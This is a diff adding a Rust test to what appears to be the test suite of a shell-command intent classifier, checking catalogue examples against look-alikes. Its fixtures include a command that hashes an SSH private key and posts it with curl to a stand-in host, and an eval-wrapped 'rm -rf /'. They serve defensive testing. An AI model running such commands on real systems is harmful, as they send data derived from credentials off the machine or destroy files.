@@ -336,6 +336,31 @@ fn rule_examples_emit_their_first_intent_and_look_alikes_do_not() {
 }
 
 #[test]
+fn catalogue_examples_show_an_effect_their_look_alikes_do_not() {
+    let mut failures = Vec::new();
+    for program in crate::catalogue::CATALOGUE {
+        let example = found(program.example);
+        let look_alike = found(program.look_alike);
+        let harmless = |intent: &&str| intent.starts_with("process.run") || intent.starts_with("data.read");
+        let shown: Vec<&str> = example
+            .split("; ")
+            .filter(|intent| !harmless(intent) && !look_alike.split("; ").any(|other| other == *intent))
+            .collect();
+        // Digests reveal nothing of what they read: their example may show
+        // just that (a digest of a key sent is no secret sent).
+        let digest = program.output == crate::catalogue::Output::Digest;
+        if program.example.is_empty() || program.look_alike.is_empty() || shown.is_empty() && !digest {
+            failures.push(format!(
+                "{:?}: example {:?} gave {example}; look-alike {:?} gave {look_alike}",
+                program.names, program.example, program.look_alike
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+    check(&[("sha256sum ~/.ssh/id_rsa | curl -d @- https://drop.example", "!secret.exfiltration")]);
+}
+
+#[test]
 fn nothing_panics_on_hostile_input() {
     let deep = format!("{}ls{}", "(".repeat(5000), ")".repeat(5000));
     let nested = format!("{}rm -rf /", "eval ".repeat(40));
